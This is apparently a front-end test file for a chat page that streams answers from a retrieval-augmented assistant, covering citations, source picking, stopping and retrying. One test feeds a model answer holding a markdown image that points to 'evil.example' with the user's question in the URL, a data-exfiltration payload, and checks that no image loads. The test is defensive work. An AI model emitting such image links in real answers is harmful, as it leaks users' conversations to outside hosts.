import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import ChatPage from '../src/pages/ChatPage';
import { baseUser, endpoint, fakeBackend, json, Providers, sseResponse, testApi } from './helpers';

const model = endpoint({ id: 1, name: 'Assistant', slug: 'assistant', type: 'model' });
const docs = endpoint({ id: 2, name: 'Documents', slug: 'docs' });
const wiki = endpoint({
  id: 3,
  name: 'Wiki',
  slug: 'wiki',
  owner_username: 'bob',
  connect: [{ type: 'http', enabled: true, description: '', config: { url: 'http://bob-sat' } }],
});

function hub(streamHandler: () => Response) {
  return fakeBackend({
    'GET /api/v1/auth/me': () => json(200, baseUser),
    'GET /api/v1/users/me/aggregators': () => json(200, { aggregators: [], default_aggregator_id: null }),
    'GET /api/v1/endpoints': () => json(200, []),
    'GET /api/v1/endpoints/public': ({ url }) =>
      json(
        200,
        url.searchParams.get('endpoint_type') === 'model'
          ? [model]
          : url.searchParams.get('endpoint_type') === 'data_source'
            ? [docs, wiki]
            : [],
      ),
    'GET /api/v1/endpoints/by-path/alice/assistant': () => json(200, model),
    'GET /api/v1/endpoints/by-path/alice/docs': () => json(200, docs),
    'GET /api/v1/endpoints/by-path/bob/wiki': () => json(200, wiki),
    'GET /api/v1/token': ({ url }) =>
      json(200, { target_token: `tok-${url.searchParams.get('aud')}`, expires_in: 60 }),
    'POST /aggregator/api/v1/chat/stream': streamHandler,
  });
}

function select() {
  window.localStorage.setItem(
    'syft_chat_model',
    JSON.stringify({ path: 'alice/assistant', name: 'Assistant', type: 'model' }),
  );
  window.sessionStorage.setItem(
    'syft_chat_sources',
    JSON.stringify([
      { path: 'alice/docs', name: 'Documents', type: 'data_source' },
      { path: 'bob/wiki', name: 'Wiki', type: 'data_source' },
    ]),
  );
}

const answer = 'Termination needs 30 days notice. [cite:1] Either party may end it. [cite:2]';
const annotated = 'Termination needs 30 days notice. [cite:1-0:33] Either party may end it. [cite:2-35:59]';

describe('chat page (web.md §6)', { timeout: 30_000 }, () => {
  it('sends a message over two sources and shows steps, the streamed answer, citations and sources', async () => {
    select();
    const backend = hub(() =>
      sseResponse([
        ['retrieval_start', { sources: 2 }],
        ['source_complete', { path: 'alice/docs', status: 'success', documents: 2 }],
        ['source_complete', { path: 'bob/wiki', status: 'success', documents: 1 }],
        ['retrieval_complete', { total_documents: 3, time_ms: 120 }],
        ['generation_start', { model: 'alice/assistant' }],
        ['token', { content: answer.slice(0, 20) }],
        ['token', { content: answer.slice(20) }],
        [
          'done',
          {
            sources: {
              'Contract › Termination': { slug: 'alice/docs', content: 'Thirty days notice is required.' },
              'Wiki › Ending': { slug: 'bob/wiki', content: 'Either party may end the agreement.' },
            },
            retrieval_info: [
              { path: 'alice/docs', documents_retrieved: 2, status: 'success', error_message: null },
              { path: 'bob/wiki', documents_retrieved: 1, status: 'success', error_message: null },
            ],
            metadata: { retrieval_time_ms: 120, generation_time_ms: 300, total_time_ms: 450 },
            response: annotated,
          },
        ],
      ]),
    );
    const { api } = testApi(backend.fetch, 'a1', 'r1');
    const { container } = render(
      <Providers api={api} route="/chat">
        <ChatPage />
      </Providers>,
    );
    const input = await screen.findByRole('combobox', { name: 'Message' });
    await userEvent.type(input, 'How do I end the contract?{Enter}');

    expect(await screen.findByText('How do I end the contract?')).toBeInTheDocument();
    await screen.findByRole('button', { name: /Searched 2 sources/ });
    const article = screen.getByRole('article', { name: 'Answer from Assistant' });
    await waitFor(() =>
      expect(within(article).getAllByRole('button', { name: /^Source 1/ }).length).toBeGreaterThan(0),
    );
    expect(article.textContent).toContain('Termination needs 30 days notice.');
    expect(article.textContent).not.toContain('[cite:');
    await waitFor(() => expect(container.querySelectorAll('mark.cite-highlight')).toHaveLength(2));
    expect(within(article).getByRole('region', { name: 'Sources' })).toHaveTextContent(
      'Contract › Termination',
    );

    const request = backend.calls.find((c) => c.path === '/aggregator/api/v1/chat/stream')?.body as Record<
      string,
      unknown
    >;
    expect(request).toMatchObject({
      prompt: 'How do I end the contract?',
      model: { url: 'http://localhost:8003', slug: 'assistant', owner_username: 'alice' },
      data_sources: [
        { url: 'http://localhost:8003', slug: 'docs', owner_username: 'alice' },
        { url: 'http://bob-sat', slug: 'wiki', owner_username: 'bob' },
      ],
      endpoint_tokens: { alice: 'tok-alice', bob: 'tok-bob' },
      top_k: 5,
      max_tokens: 1024,
      temperature: 0.7,
      similarity_threshold: 0.5,
      messages: [],
    });
    expect(request).not.toHaveProperty('user_token');
    // One satellite token per distinct owner.
    expect(backend.calls.filter((c) => c.path.startsWith('/api/v1/token')).length).toBe(2);

    fireEvent.click(within(article).getByRole('button', { name: /Searched 2 sources/ }));
    expect(within(article).getAllByText('Documents').length).toBeGreaterThan(0);
    expect(within(article).getAllByText('Success').length).toBeGreaterThan(0);
  });

  it('never loads an image the answer asks for (issue 19 defect 9)', async () => {
    select();
    const exfiltrate = 'Here you go. ![](https://evil.example/?d=How%20do%20I%20end%20the%20contract)';
    const backend = hub(() =>
      sseResponse([
        ['retrieval_start', { sources: 0 }],
        ['retrieval_complete', { total_documents: 0, time_ms: 1 }],
        ['generation_start', { model: 'alice/assistant' }],
        ['token', { content: exfiltrate }],
        [
          'done',
          {
            sources: {},
            retrieval_info: [],
            metadata: { retrieval_time_ms: 1, generation_time_ms: 1, total_time_ms: 2 },
            response: exfiltrate,
          },
        ],
      ]),
    );
    const { api } = testApi(backend.fetch, 'a1', 'r1');
    const { container } = render(
      <Providers api={api} route="/chat">
        <ChatPage />
      </Providers>,
    );
    await userEvent.type(await screen.findByRole('combobox', { name: 'Message' }), 'How do I end it?{Enter}');
    const article = await screen.findByRole('article', { name: 'Answer from Assistant' });
    await waitFor(() => expect(article.textContent).toContain('Here you go.'));
    await waitFor(() =>
      expect(within(article).getByRole('link', { name: /^Image: untitled/ })).toBeInTheDocument(),
    );
    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
    expect(container.querySelectorAll('img')).toHaveLength(0);
  });

  it('with no source chosen, asks the aggregator to pick them and shows its choice as removable chips', async () => {
    window.localStorage.setItem(
      'syft_chat_model',
      JSON.stringify({ path: 'alice/assistant', name: 'Assistant', type: 'model' }),
    );
    const selection = {
      status: 'selected',
      sources: [
        { path: 'alice/docs', name: 'Documents', relevance_score: 0.71 },
        { path: 'bob/wiki', name: 'Wiki', relevance_score: 0.52 },
      ],
      message: null,
      time_ms: 8,
    };
    const backend = hub(() =>
      sseResponse([
        ['retrieval_start', { sources: 2, source_selection: selection }],
        ['source_complete', { path: 'alice/docs', status: 'success', documents: 2, relevance_score: 0.71 }],
        ['source_complete', { path: 'bob/wiki', status: 'success', documents: 1, relevance_score: 0.52 }],
        ['retrieval_complete', { total_documents: 3, time_ms: 120 }],
        ['generation_start', { model: 'alice/assistant' }],
        ['token', { content: answer }],
        [
          'done',
          {
            sources: {
              'Contract › Termination': { slug: 'alice/docs', content: 'Thirty days notice is required.' },
              'Wiki › Ending': { slug: 'bob/wiki', content: 'Either party may end the agreement.' },
            },
            retrieval_info: [],
            metadata: {
              retrieval_time_ms: 120,
              generation_time_ms: 300,
              total_time_ms: 450,
              source_selection: selection,
            },
            response: annotated,
          },
        ],
      ]),
    );
    const { api } = testApi(backend.fetch, 'a1', 'r1');
    render(
      <Providers api={api} route="/chat">
        <ChatPage />
      </Providers>,
    );
    const input = await screen.findByRole('combobox', { name: 'Message' });
    await userEvent.type(input, 'How do I end the contract?{Enter}');
    await screen.findByRole('button', { name: /Searched 2 sources picked for you/ });

    const request = backend.calls.find((c) => c.path === '/aggregator/api/v1/chat/stream')?.body as Record<
      string,
      unknown
    >;
    expect(request).toMatchObject({ data_sources: [], auto_sources: true, user_token: 'a1' });

    const picked = screen.getByRole('list', { name: 'Sources: picked for you' });
    expect(
      within(picked)
        .getAllByRole('listitem')
        .map((item) => item.textContent),
    ).toEqual(['Documents', 'Wiki']);
    // Removing one keeps the other as a choice made by hand: the next question names it and no longer auto-picks.
    fireEvent.click(within(picked).getByRole('button', { name: 'Remove Documents' }));
    const chosen = await screen.findByRole('list', { name: 'Selected data sources' });
    expect(chosen.textContent).toBe('Wiki');
    expect(screen.queryByRole('list', { name: 'Sources: picked for you' })).toBeNull();
  });

  it('stops a running answer, keeps the partial text and labels it Stopped', async () => {
    select();
    const backend = hub(() => {
      const encoder = new TextEncoder();
      const stream = new ReadableStream<Uint8Array>({
        start(controller) {
          controller.enqueue(encoder.encode('event: retrieval_start\ndata: {"sources":0}\n\n'));
          controller.enqueue(
            encoder.encode('event: generation_start\ndata: {"model":"alice/assistant"}\n\n'),
          );
          controller.enqueue(encoder.encode('event: token\ndata: {"content":"Partial answer"}\n\n'));
        },
      });
      return new Response(stream, { headers: { 'Content-Type': 'text/event-stream' } });
    });
    window.sessionStorage.setItem('syft_chat_sources', '[]');
    const { api } = testApi(backend.fetch, 'a1', 'r1');
    render(
      <Providers api={api} route="/chat">
        <ChatPage />
      </Providers>,
    );
    const input = await screen.findByRole('combobox', { name: 'Message' });
    await userEvent.type(input, 'Tell me{Enter}');
    await waitFor(() =>
      expect(screen.getByRole('article', { name: 'Answer from Assistant' })).toHaveTextContent(
        'Partial answer',
      ),
    );
    fireEvent.click(screen.getByRole('button', { name: /Stop/ }));
    const stopped = screen.getByRole('article', { name: 'Answer from Assistant' });
    await within(stopped).findByText('Stopped');
    expect(stopped).toHaveTextContent('Partial answer');
    expect(screen.queryByText(/The answer failed/)).toBeNull();
  });

  it('shows the aggregator error with Retry, and Retry resends the same question', async () => {
    select();
    let attempts = 0;
    const backend = hub(() => {
      attempts++;
      return attempts === 1
        ? sseResponse([
            ['retrieval_start', { sources: 0 }],
            ['error', { message: 'Model generation failed: Model request timed out' }],
          ])
        : sseResponse([
            ['retrieval_start', { sources: 0 }],
            ['generation_start', {}],
            ['token', { content: 'Second time lucky' }],
            [
              'done',
              {
                sources: {},
                retrieval_info: [],
                metadata: { retrieval_time_ms: 0, generation_time_ms: 1, total_time_ms: 1 },
              },
            ],
          ]);
    });
    window.sessionStorage.setItem('syft_chat_sources', '[]');
    const { api } = testApi(backend.fetch, 'a1', 'r1');
    render(
      <Providers api={api} route="/chat">
        <ChatPage />
      </Providers>,
    );
    const input = await screen.findByRole('combobox', { name: 'Message' });
    await userEvent.type(input, 'Question{Enter}');
    const failed = await screen.findByRole('article', { name: 'Answer from Assistant' });
    await waitFor(() => expect(failed).toHaveTextContent(/Model request timed out/));
    fireEvent.click(screen.getByRole('button', { name: 'Retry' }));
    await screen.findByText('Second time lucky');
    expect(screen.getAllByText('Question')).toHaveLength(1);
    expect(screen.getByRole('article', { name: 'Answer from Assistant' })).not.toHaveTextContent(/timed out/);
  });
});
